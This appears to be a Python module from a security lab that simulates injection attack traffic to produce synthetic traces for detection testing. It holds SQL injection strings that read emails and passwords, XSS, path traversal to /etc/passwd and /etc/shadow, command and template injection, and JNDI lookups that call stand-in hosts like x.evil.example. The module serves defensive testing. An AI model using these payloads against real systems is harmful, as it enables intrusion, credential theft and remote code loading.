"""Injection: SQL that reaches the database, syntax that reaches nothing, errors that tell."""

from __future__ import annotations

from dataclasses import replace
from functools import partial
from urllib.parse import quote, quote_plus

from examples.lab.attacks.scene import Scene, attack, restated
from examples.lab.flows import Change
from examples.lab.people.visit import Steps
from examples.lab.spans import Piece, exception

SQL = (
    "' OR '1'='1' --", "') UNION SELECT id, email, password FROM users --", "x' AND 1=(SELECT COUNT(*) FROM users) --",
    "' OR 1=1 LIMIT 1 OFFSET 3 --", "'; SELECT pg_sleep(5) --", "%' AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' --",
    "' UNION ALL SELECT NULL, version(), NULL --", "x'/**/OR/**/'a'='a",
    "' OR ASCII(SUBSTR((SELECT email FROM users LIMIT 1),1,1))>64 --",
)  # fmt: skip
BROKEN = ("'", "')", "\"'", "' AND (", "1 ORDER BY 99 --", "' UNION SELECT", "%' ESCAPE ''")
RULES = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd", "..%2f..%2fetc%2fshadow",
    ";cat /etc/passwd", "$(id)", "{{7*7}}", "${7*7}", "<!--#exec cmd=\"ls\" -->", "php://filter/convert.base64-encode/resource=index",
    "|| ping -c 3 10.0.0.1", "%0d%0aSet-Cookie: a=b",
)  # fmt: skip
JNDI = (
    "${jndi:ldap://x.evil.example/a}", "${${lower:j}ndi:ldap://x.evil.example/a}", "${jndi:rmi://198.51.100.9:1099/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/z}",
)  # fmt: skip
EXCEPTIONS = (
    "org.yaml.snakeyaml.error.MarkedYAMLException", "java.lang.ClassNotFoundException", "jinja2.exceptions.TemplateSyntaxError",
    "pickle.UnpicklingError", "SpelEvaluationException",
)  # fmt: skip


@attack("sink.sqli")
def sqli(scene: Scene) -> Steps:
    """A search that is pasted into SQL. Weak ones come in the body: what was sent stands in the statement only."""
    for at in scene.times(15):
        payload = scene.chance.choice(SQL)
        query = "" if scene.strength == "weak" else f"q={quote_plus(payload)}"
        status = scene.mostly(200, 500, 0.8)
        yield (
            scene.wait(),
            scene.call(
                scene.who(at, scene.account), "search", query=query, fill=payload, status=status, size=scene.chance.randint(400, 30_000)
            ),
        )


@attack("sql.shape")
def shape(scene: Scene) -> Steps:
    """The same where the statement is cleaned of values: only its form is another."""
    # Cleaned as the others are; the form is what is left of it.
    change = scene.query("object", restated(lambda said: f"{said} UNION SELECT ?, ?, ? FROM users"))
    for at in scene.times(10):
        visible = f"{scene.owned()}%20UNION%20SELECT%201,2,3" if scene.strength != "weak" else scene.owned()
        yield scene.wait(), scene.call(scene.who(at, scene.account), "object", visible, change=change)


@attack("sql.errors")
def errors(scene: Scene) -> Steps:
    """Quotes and brackets until the database complains of syntax."""
    for at in scene.times(12):
        payload = scene.chance.choice(BROKEN)
        message = f'syntax error at or near "{payload[:6]}"'
        who = scene.who(at, scene.guest("search"))
        query = "" if scene.strength == "weak" else f"q={quote_plus(payload)}"
        change = scene.query("search", partial(_failed, message=message))
        yield scene.wait(), scene.call(who, "search", query=query, fill=payload, status=500, change=change)


def _failed(piece: Piece, message: str) -> Piece:
    told = {**piece.told, "db.response.status_code": "42601"}
    return replace(piece, told=told, error=message, events=(exception("SyntaxError", message),))


@attack("inj.rules")
def rules(scene: Scene) -> Steps:
    """What rule sets know: markup, traversal, commands, templates; nothing comes of it. Weak ones stand in the body and are not seen."""
    for at in scene.times(20):
        payload = scene.chance.choice(RULES)
        who, seen = scene.who(at, scene.guest("search")), scene.strength != "weak"
        if not seen:
            yield scene.wait(), scene.call(who, "create", status=scene.mostly(400, 201, 0.5), visible=False)
        elif scene.chance.random() < 0.3:
            yield scene.wait(), scene.missing(who, "/" + quote(payload, safe="/."))
        else:
            yield scene.wait(), scene.call(who, "search", query=f"q={quote_plus(payload)}", fill="", status=scene.mostly(200, 400, 0.6))


@attack("inj.jndi")
def jndi(scene: Scene) -> Steps:
    """Lookups that fetch code, in the user agent and in the query; a strong one succeeds, and the service calls out."""
    tools = scene.place.operation("search").service.tools
    called = Change(extra=(tools.get("http://x.evil.example:1389/a"),)) if scene.strength == "strong" else None
    for at in scene.times(6):
        who, payload = scene.guest("search")(), scene.chance.choice(JNDI)
        if at % 2:
            who.agent = payload
        yield scene.wait(), scene.call(who, "search", query=f"q={quote_plus('phone' if at % 2 else payload)}", fill="", change=called)


@attack("exc.novel")
def novel(scene: Scene) -> Steps:
    """Bodies that no parser was made for, until one fails in a new way."""
    for at in scene.times(8):
        kind = scene.chance.choice(EXCEPTIONS)
        parsing = scene.place.operation("write").service.tools.code("parse body")
        piece = replace(parsing, events=(exception(kind, "unexpected input"),), error=kind)
        yield scene.wait(), scene.call(scene.who(at, scene.account), "write", status=500, change=Change(extra=(piece,)))
